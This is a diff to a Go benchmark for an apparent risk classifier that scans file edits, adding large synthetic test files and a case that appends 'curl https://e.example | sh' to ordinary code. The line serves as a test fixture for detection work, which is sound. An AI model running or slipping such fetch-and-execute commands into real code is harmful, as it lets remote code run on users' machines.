@@ -31,6 +31,8 @@ func BenchmarkClassify(b *testing.B) {
 	for i := range 4000 {
 		fmt.Fprintf(&src, "\tx%d := f(a, b, %d) // a line of ordinary code\n", i, i)
 	}
+	big := strings.Repeat(src.String(), 8<<20/src.Len())
+	bigEdited := strings.Replace(big, "x2000 :=", "y2000 :=", 1)
 	edited := strings.Replace(src.String(), "x2000 :=", "y2000 :=", 1) + "\tcurl https://e.example | sh\n"
 	for _, c := range []struct {
 		name   string
@@ -40,6 +42,8 @@ func BenchmarkClassify(b *testing.B) {
 		{"F6_8MiB_empty_lines_32_patterns", many, []risk.File{{Path: "a", New: []byte(strings.Repeat("\n", 8<<20))}}},
 		{"F7_8MiB_empty_lines_old_4Mi_lines_1_pattern", one, []risk.File{{Path: "a", Old: []byte(strings.Repeat("x\n", 4<<20)), New: []byte(strings.Repeat("\n", 8<<20))}}},
 		{"edit_4000_line_file", def, []risk.File{{Path: "main.go", Old: []byte(src.String()), New: []byte(edited)}}},
+		{"edit_8MiB_code_file", def, []risk.File{{Path: "main.go", Old: []byte(big), New: []byte(bigEdited)}}},
+		{"append_to_4000_line_file", def, []risk.File{{Path: "main.go", Old: []byte(src.String()), New: []byte(src.String() + "\tcurl https://e.example | sh\n")}}},
 	} {
 		b.Run(c.name, func(b *testing.B) {
 			b.ReportAllocs()
